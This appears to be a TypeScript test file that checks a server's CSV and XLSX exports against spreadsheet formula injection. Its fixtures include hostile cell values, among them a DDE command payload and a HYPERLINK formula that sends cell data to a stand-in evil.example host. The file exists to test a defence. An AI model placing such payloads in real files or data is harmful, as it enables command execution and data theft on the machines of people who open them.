import { parse } from "csv-parse/sync";
import readXlsx from "read-excel-file/node";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openZip } from "../../../pipelines/reading/zip.ts";
import { formats, type Locale } from "../../../server/format.ts";
import { makeSheets } from "../../../server/report/sheets.ts";
import type { Route } from "../../../server/route.ts";
import type { Batch, Column, Field, Table } from "../../../server/table.ts";
import { serveFixture, type Fixture } from "../../support/serve-fixture.ts";
import { ask } from "../ask.ts";
import { named, questionOf } from "./parameters.ts";

/** How a text begins that a spreadsheet would reckon with; the last are what it reckons with after a quote, a line end or a blank. */
const texts = [
  ...["=1+1", "+31612345678", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "=1+1;=2+2", '="a"&"b"'],
  ...['=HYPERLINK("http://evil.example?"&A1,"x")', "=1+1,=2+2", '";=1+1', "\r\n=1+1", "-", "=", "@"],
];
const starts = /^[=+\-@\t\r]/;

let fixture: Fixture;
beforeAll(async () => {
  fixture = await serveFixture();
});
afterAll(() => fixture.stop());

/** All that are answered as rows, and can be taken along in every format. */
const tables = named.filter(([, { answers }]) => ["rows", "operations", "written", "audit"].includes(answers));

/** The fields that a route answers: those of its header in CSV, by the kinds of its row. */
async function fieldsOf(route: Route): Promise<Field[]> {
  const address = questionOf(route);
  const answered = await ask(fixture, `${address}${address.includes("?") ? "&" : "?"}format=csv`);
  expect(answered.status, answered.text).toBe(200);
  const header = (parse(answered.text, { to: 1 }) as string[][])[0]!;
  return header.map((name) => ({ name, kind: "text" }));
}

/** A row for each text, with that text in every column of texts there is, a list of it, and numbers beside it. */
function hostile(fields: Field[]): Table {
  const numbers: Field[] = [{ name: "-number", kind: "number" }, { name: "=list", kind: "texts" }, { name: "+coded", kind: "coded", words: texts }]; // prettier-ignore
  const columns: Column[] = [
    ...fields.map((): Column => ({ kind: "text", values: texts })),
    { kind: "number", values: new Float64Array(texts.map((_, index) => -1.5 - index)), valid: null },
    { kind: "texts", values: texts.map((text) => [text, text]) },
    { kind: "coded", values: new Uint8Array(texts.map((_, index) => index)), valid: null },
  ];
  const batch: Batch = { length: texts.length, columns };
  return { fields: [...fields, ...numbers], batches: [batch] };
}

async function written(name: string, table: Table, route: Route, locale: Locale): Promise<Buffer> {
  const format = formats.find((each) => each.name === name)!;
  return fixture.snapshots.use(undefined, async (snapshot) => {
    const pieces: Buffer[] = [];
    const source = { path: route.path, question: {}, from: snapshot };
    for await (const piece of format.write(table, { locale, about: true }, source)) pieces.push(Buffer.from(piece));
    return Buffer.concat(pieces);
  });
}

async function partsOf(bytes: Buffer): Promise<string> {
  const zip = await openZip(bytes, { maxFileBytes: 64 * 1024 * 1024, maxZipEntries: 100 });
  let text = "";
  for (const name of zip.names) for await (const chunk of zip.read(name)) text += chunk.toString();
  return text;
}

describe("rows that are taken along, with a formula in every text", () => {
  it.each(tables)("%s has none in CSV, in either language", async (_, route) => {
    const fields = await fieldsOf(route);
    for (const [locale, delimiter, number] of [
      ["en", ",", /^-\d+\.5$/],
      ["nl", ";", /^-\d+,5$/],
    ] as const) {
      const text = (await written("csv", hostile(fields), route, locale)).toString();
      const lines = parse(text, { delimiter, bom: true, comment: "#", comment_no_infix: true, relax_column_count: true }) as string[][]; // prettier-ignore
      const [header, ...rows] = lines;
      expect(rows).toHaveLength(texts.length);
      expect(header!.filter((cell) => starts.test(cell))).toEqual([]);
      for (const row of rows) {
        expect(row[fields.length]).toMatch(number);
        row.splice(fields.length, 1);
        expect(row.filter((cell) => starts.test(cell))).toEqual([]);
      }
      // Nothing is lost: without its apostrophe each is what it was.
      for (const [index, row] of rows.entries()) expect(row[0]!.replace(/^'(?=[=+\-@\t\r])/, "")).toBe(texts[index]);
    }
  });

  it.each(tables)("%s has none in XLSX, and numbers that are numbers", async (_, route) => {
    const fields = await fieldsOf(route);
    const bytes = await written("xlsx", hostile(fields), route, "nl");
    const xml = await partsOf(bytes);
    expect(xml).not.toMatch(/<f[ >/]/);
    expect(xml).not.toMatch(/<(hyperlink|externalReference|oleObject|ddeLink)\b/i);
    const [{ data } = { data: [] }] = await readXlsx(bytes);
    const rows = data.slice(1);
    expect(rows.map((row) => row[fields.length])).toEqual(texts.map((_, index) => -1.5 - index));
    const told = (cell: unknown) => String(cell).replace(/\r\n?/g, "\n").trim();
    for (const [index, row] of rows.entries())
      expect(new Set(row.slice(0, fields.length).map(told))).toEqual(new Set([told(texts[index])]));
  });
});

describe("what came with data or from people", () => {
  it("is disarmed where it is taken along: names of files, reasons, actions, who looked", async () => {
    const json = { "content-type": "application/json" };
    for (const title of texts.filter((text) => !/[\t\r\n]/.test(text))) {
      const body = JSON.stringify({
        kind: "action",
        focus: "inclusion",
        title,
        unit_id: "den-haag",
        status: "running",
      });
      const made = await ask(fixture, "/api/v1/actions", { method: "POST", headers: json, body });
      expect(made.status, made.text).toBe(200);
    }
    const cookie = await fixture.cookieOf({ name: "=1+1", roles: ["admin"], units: [] });
    expect((await ask(fixture, "/api/v1/audit?format=csv", { headers: { cookie } })).status).toBe(200);
    await expect.poll(async () => (await ask(fixture, "/api/v1/audit?format=csv")).text).toContain("'=1+1");
    for (const path of ["/actions", "/audit", "/refusals", "/quarantine", "/loads", "/events", "/references"]) {
      const { text } = await ask(fixture, `/api/v1${path}?format=csv`);
      const [, ...rows] = parse(text) as string[][];
      expect(rows.length, path).toBeGreaterThan(0);
      const armed = rows.flat().filter((cell) => starts.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
      expect([path, armed]).toEqual([path, []]);
    }
    expect((await ask(fixture, "/api/v1/actions?format=csv")).text).toContain("'=HYPERLINK");
  });
});

describe("makeSheets(sheets, locale)", () => {
  it("writes every text of a report as text, also names that every object has and what stands for a character", async () => {
    const odd = [...texts, "constructor", "__proto__", "toString", "hasOwnProperty", "_x003D_1+1", "a_x000D_b", "x".repeat(40_000)]; // prettier-ignore
    const sheet = { name: "Blad", head: odd.slice(0, 2), columns: [{ title: "=1+1", width: 10 }], rows: odd.map((text) => [text]) }; // prettier-ignore
    const bytes = Buffer.from(await makeSheets([sheet], "nl"));
    expect(await partsOf(bytes)).not.toMatch(/<f[ >/]/);
    const [{ data } = { data: [] }] = await readXlsx(bytes);
    const cells = data.slice(3).map(([cell]) => String(cell));
    expect(cells).toHaveLength(odd.length);
    const told = (text: string) => text.replace(/\r\n?/g, "\n").trim().slice(0, 32_000);
    expect(cells.map(told)).toEqual(odd.map(told));
  });
});
